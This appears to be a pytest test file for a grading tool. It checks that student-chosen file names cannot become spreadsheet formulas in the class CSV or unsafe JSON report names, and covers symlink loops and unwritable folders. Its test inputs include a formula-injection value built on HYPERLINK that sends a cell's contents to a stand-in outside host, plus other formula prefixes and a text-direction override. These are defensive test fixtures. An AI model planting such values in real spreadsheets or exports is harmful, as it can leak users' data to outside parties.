"""The class table and the JSON reports stay sound whatever a student names a file.

A submission's file and folder names are chosen by the student; they reach the CSV table
(which instructors open in a spreadsheet) and the names of the JSON reports.
"""

from __future__ import annotations

import csv
import json

from aisearch.grading.question import QuestionResult
from aisearch.grading.report import Report, write_csv, write_json

NAMES = ['=HYPERLINK("http://example.com/?"&A1,"marks")', "+1+1", "-2+3", "@SUM(A1:A9)",
         'comma, "quote"', "line\nbreak", "\t=tab first", "cr\r=2", "alice", "", "..",
         "\u202eevil", "=1"]


def reports(tmp_path):
    out = []
    for i, name in enumerate(NAMES):
        r = Report(str(tmp_path / "class" / f"{i}{name}" / "03_alpha_beta.ipynb"), name, "03", 7)
        r.questions.append(QuestionResult("03.value", "value", 2, earned=1, status="failed"))
        r.notes.append(f"=note of {name}")
        out.append(r)
    return out


def test_no_cell_of_the_class_table_is_a_formula_and_each_submission_is_one_row(tmp_path):
    path = write_csv(reports(tmp_path), tmp_path / "class.csv")
    rows = list(csv.reader(open(path, newline="", encoding="utf-8")))
    assert len(rows) == 1 + len(NAMES)
    assert {len(row) for row in rows} == {len(rows[0])}
    for row, name in zip(rows[1:], NAMES, strict=True):
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
        assert "\n" not in "".join(row) and "\u202e" not in "".join(row)
        assert row[0].removeprefix("'").replace("\\n", "\n").replace("\\t", "\t").replace(
            "\\r", "\r").replace("\\u202e", "\u202e") == name
        assert row[6] == "1"


def test_json_reports_have_one_file_each_inside_the_folder_named_safely(tmp_path):
    written = write_json(reports(tmp_path), tmp_path / "json")
    assert len(written) == len(set(written)) == len(NAMES)
    for path in written:
        assert path.parent == tmp_path / "json" and path.suffix == ".json"
        assert path.name.isprintable() and not path.name.startswith(".")
    students = [json.loads(p.read_text(encoding="utf-8"))["student"] for p in written]
    assert students == NAMES


def test_links_name_their_own_reports_and_a_link_that_loops_loses_none(tmp_path):
    """A student's notebook may be a link: to a classmate's notebook (its report must not
    take the classmate's name, nor push the classmate's report to another name) or to
    itself (a loop, which the reports must not follow)."""
    import os

    klass = tmp_path / "class"
    (klass / "alice").mkdir(parents=True)
    (klass / "aaron").mkdir()
    (klass / "mallory").mkdir()
    notebook = klass / "alice" / "06_games_of_chance.ipynb"
    notebook.write_text("{}")
    os.symlink("../alice/06_games_of_chance.ipynb", klass / "aaron" / "06_games_of_chance.ipynb")
    os.symlink("06_loop.ipynb", klass / "mallory" / "06_loop.ipynb")
    graded = []
    for student, name, earned in (("aaron", "06_games_of_chance", 0), ("alice",
                                  "06_games_of_chance", 3), ("mallory", "06_loop", 0)):
        r = Report(str(klass / student / f"{name}.ipynb"), student, "06", 7)
        r.questions.append(QuestionResult("06.value", "value", 3, earned=earned,
                                          status="passed" if earned else "failed"))
        graded.append(r)
    written = write_json(graded, tmp_path / "json")
    assert [p.name for p in written] == ["aaron__06_games_of_chance.json",
                                         "alice__06_games_of_chance.json",
                                         "mallory__06_loop.json"]
    for path, r in zip(written, graded, strict=True):
        assert json.loads(path.read_text())["student"] == r.student


def test_a_report_that_cannot_be_written_does_not_cost_the_class_table(tmp_path, monkeypatch,
                                                                        capsys):
    """The JSON reports and the CSV table are written each on its own: one that fails (here
    a folder the grader may not write in) is named, and the other is still written."""
    import os

    from aisearch.grading import __main__ as cli
    from aisearch.grading import grade

    klass = tmp_path / "class"
    (klass / "alice").mkdir(parents=True)
    (klass / "bob").mkdir()
    for who in ("alice", "bob"):
        (klass / who / "03_alpha_beta.ipynb").write_text("{}")
    monkeypatch.setattr(grade, "grade_paths", lambda paths, **kw: reports(tmp_path)[:2])
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        if os.access(locked, os.W_OK):  # (root may write anywhere: a file stands in)
            locked = tmp_path / "a_file"
            locked.write_text("")
        status = cli.main(["grade", str(klass), "--quiet", "--seed", "1",
                           "--json", str(locked / "reports"), "--csv", str(tmp_path / "c.csv")])
    finally:
        (tmp_path / "locked").chmod(0o700)
    err = capsys.readouterr().err
    assert status == 2 and "--json" in err
    assert len(list(csv.reader(open(tmp_path / "c.csv", encoding="utf-8")))) == 3
